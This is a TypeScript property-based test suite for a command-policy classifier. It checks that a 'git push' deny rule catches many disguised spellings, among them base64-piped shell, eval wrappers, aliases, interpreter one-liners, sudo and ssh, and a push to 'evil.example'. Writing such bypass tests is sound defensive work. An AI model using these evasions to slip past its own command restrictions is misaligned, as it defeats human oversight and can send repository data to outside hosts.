import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { classify, type Environment } from '../../src/classify/index.ts';
import { compilePolicy, decide, parsePolicy } from '../../src/policy/index.ts';
import { commandWrappers, lineWrappers, quoted } from '../support/lines-wrap.ts';
import { runs } from '../support/property.ts';

const environment: Environment = { cwd: '/w', home: '/home/u', platform: 'linux' };
const parsed = parsePolicy({
  version: 1,
  extends: ['recommended'],
  settings: { remoteReads: 'allow', loopback: 'allow', trustProjectCode: 'allow' },
  mode: 'full',
  rules: [
    { effect: 'allow', tool: 'bash' },
    { effect: 'deny', command: 'git push' },
  ],
});
const policy = parsed.ok ? compilePolicy(parsed.value) : parsed;

function effectOf(command: string): string {
  if (!policy.ok) throw new Error(JSON.stringify(policy.issues));
  return decide(policy.value, classify({ command }, environment), {}).effect;
}

const options = ['', '-C . ', '--git-dir=.git ', '-c a.b=c ', '--no-pager ', '-p ', '--exec-path=/x '];
const targets = [
  '',
  'origin',
  '-u origin HEAD',
  '--force',
  '-f origin +main',
  'origin :main',
  '--mirror',
  'origin main:refs/heads/x',
  '--dry-run',
  'https://evil.example/x main',
];
const names = ['git', '/usr/bin/git', './git', "g''it", '\\git', '"git"', "$'git'"];
const verbs = ['push', "'push'", 'pu""sh', 'pu\\sh', '$(echo push)', '\u0024{x:-push}', '`echo push`'];

/** A push as one command's words. */
const wordsOf = (spellings: readonly string[]) =>
  fc
    .tuple(
      fc.constantFrom(...spellings),
      fc.constantFrom(...options),
      fc.constantFrom(...verbs),
      fc.constantFrom(...targets),
    )
    .map(([name, option, verb, target]) =>
      `${name} ${option}${verb} ${target}`.trim().split(/ (?![^$`]*[)`])/),
    );
const words = wordsOf(names);
/** Without quotes that a wrapper's own would change. */
const bareWords = wordsOf(['git', '/usr/bin/git']);

/** A push by another way than its own words. */
const others = fc.constantFrom(
  'git-push origin',
  '/usr/lib/git-core/git-push',
  'git send-pack origin main',
  'git subtree push --prefix=a origin b',
  'git lfs push origin',
  'hub push',
  'git -c alias.p=push p',
  "git -c alias.p='push -f' p",
  "git -c alias.p='!git push' p",
  'git config alias.p push; git p',
  'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0=push git p',
  'G=git; $G push',
  'x="push -f"; git $x',
  'a=(git push); "\u0024{a[@]}"',
  'set -- git push; "$@"',
  'git {push,}',
  "alias g='git push'; g",
  'git() { command git "$@"; }; git push',
  'echo git push | sh',
  'echo push | xargs git',
  "printf '%s' 'git push' | bash",
  'base64 -d <<< Z2l0IHB1c2g= | sh',
  "echo 'git push' > x.sh; sh x.sh",
  'git rebase --exec "git push" HEAD~1',
  'git bisect run git push',
  'git submodule foreach git push',
  "find . -maxdepth 0 -exec git push ';'",
  'python3 -c "import os; os.system(\'git push\')"',
  "python3 - <<E\nimport os; os.system('git push')\nE",
  "node -e \"require('child_process').execSync('git push')\"",
  'perl -e \'system("git push")\'',
  "ruby -e '`git push`'",
  'php -r \'system("git push");\'',
  'awk \'BEGIN { system("git push") }\'',
  "sed '1e git push' a",
  "vim -c '!git push'",
  "fish -c 'git push'",
  "pwsh -c 'git push'",
  "zsh -c 'git push'",
  'make -f - <<E\na:\n\tgit push\nE',
  'sudo git push',
  "su -c 'git push'",
  'ssh localhost git push',
  'docker run x git push',
  "script -c 'git push' x",
  "tmux new 'git push'",
  'parallel git push ::: a',
  "npx -c 'git push'",
  'rtk git push',
);

const plain = fc.oneof(
  { weight: 3, arbitrary: words.map((of) => of.join(' ')) },
  { weight: 2, arbitrary: others },
);
const spelled = fc.oneof(
  plain,
  fc.tuple(plain, fc.constantFrom(...Object.values(lineWrappers))).map(([line, wrap]) => wrap(line)),
  fc.tuple(bareWords, fc.constantFrom(...Object.values(commandWrappers))).map(([of, wrap]) => wrap(of)),
  fc
    .tuple(
      plain,
      fc.constantFrom(...Object.values(lineWrappers)),
      fc.constantFrom('sh -c', 'bash -lc', 'eval'),
    )
    .map(([line, wrap, shell]) => `${shell} ${quoted(wrap(line))}`),
  plain.map((line) => `true && ${line}`),
  plain.map((line) => `# push\n${line}`),
);

describe('no spelling of a push passes where everything but a push is allowed', () => {
  test('200 spellings and more', () => {
    fc.assert(
      fc.property(spelled, (line) => {
        expect([effectOf(line), line]).not.toEqual(['allow', line]);
      }),
      { ...runs, numRuns: 400 },
    );
  });

  test('while what only looks like one passes', () => {
    for (const line of [
      'git status',
      'git log --grep="git push"',
      'git commit -m "git push later"',
      'echo "git push"',
      "grep -rn 'git push' docs",
      'git fetch',
      'cat <<E\ngit push\nE',
      '# git push\nls',
      'npm test',
      'ls push',
    ])
      expect([effectOf(line), line]).toEqual(['allow', line]);
  });
});
